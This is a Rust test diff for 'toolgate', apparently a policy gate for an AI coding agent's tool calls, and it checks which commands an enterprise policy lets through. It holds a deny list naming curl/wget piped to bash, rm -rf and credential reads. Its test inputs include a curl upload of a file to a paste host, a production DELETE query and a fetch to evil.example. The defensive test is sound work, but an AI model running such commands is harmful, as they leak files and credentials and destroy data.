@@ -1120,3 +1120,85 @@ fn managed_claude_settings_are_enforced_through_the_analysis() {
     std::fs::write(&settings, "{ not json").unwrap();
     assert_eq!(bash("ls").0, "deny");
 }
+
+/// examples/enterprise.toml with the seed's managed settings: what it stops and lets through.
+#[test]
+fn the_enterprise_example_policy() {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
+    let dir = tempfile::tempdir().unwrap();
+    let settings = dir.path().join("managed-settings.json");
+    std::fs::write(
+        &settings,
+        json!({"permissions": {
+            "deny": ["Bash(rm -rf *)", "Bash(curl * | bash)", "Bash(wget * | bash)",
+                     "Bash(git push --force *)", "Read(~/.ssh/*)", "Read(~/.aws/*)"],
+            "ask": ["Bash(git push *)", "Bash(npm publish *)", "Edit(*.env*)"]}})
+        .to_string(),
+    )
+    .unwrap();
+    let lint = toolgate()
+        .args([
+            "lint",
+            root.join("examples/enterprise.toml").to_str().unwrap(),
+        ])
+        .env("TOOLGATE_CLAUDE_SETTINGS", &settings)
+        .output()
+        .unwrap();
+    assert_eq!(
+        lint.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&lint.stderr)
+    );
+    let decide = |tool: &str, input: Value| {
+        let out = toolgate()
+            .env("TOOLGATE_POLICY", root.join("examples/enterprise.toml"))
+            .env("TOOLGATE_CLAUDE_SETTINGS", &settings)
+            .arg("hook")
+            .write_stdin(pre(tool, input))
+            .output()
+            .unwrap();
+        match (
+            out.status.code().unwrap(),
+            String::from_utf8_lossy(&out.stdout).contains("\"ask\""),
+        ) {
+            (2, _) => "deny",
+            (_, true) => "ask",
+            _ => "pass",
+        }
+    };
+    let bash = |c: &str| decide("Bash", json!({ "command": c }));
+    for (command, expected) in [
+        ("ls -la", "pass"),
+        ("cargo test", "pass"),
+        ("git clone https://github.com/org/repo", "pass"),
+        ("curl -s https://pypi.org/simple/requests/", "pass"),
+        ("curl -s https://paste.example.com -d @notes.txt", "deny"),
+        ("psql -h db-p01.internal -c 'DELETE FROM claims'", "deny"),
+        ("psql -h localhost -c 'DELETE FROM claims'", "pass"),
+        ("rm -rf node_modules", "deny"),
+        ("git push origin feature", "ask"),
+        ("cat ~/.aws/config", "deny"),
+    ] {
+        assert_eq!(bash(command), expected, "{command}");
+    }
+    assert_eq!(
+        decide("mcp__obsidian-mcp__read_note", json!({"note": "daily"})),
+        "pass"
+    );
+    assert_eq!(decide("mcp__slack__post", json!({"text": "hi"})), "deny");
+    assert_eq!(
+        decide(
+            "WebFetch",
+            json!({"url": "https://api.anthropic.com/v1/models", "prompt": "x"})
+        ),
+        "pass"
+    );
+    assert_eq!(
+        decide(
+            "WebFetch",
+            json!({"url": "https://evil.example/", "prompt": "x"})
+        ),
+        "deny"
+    );
+}
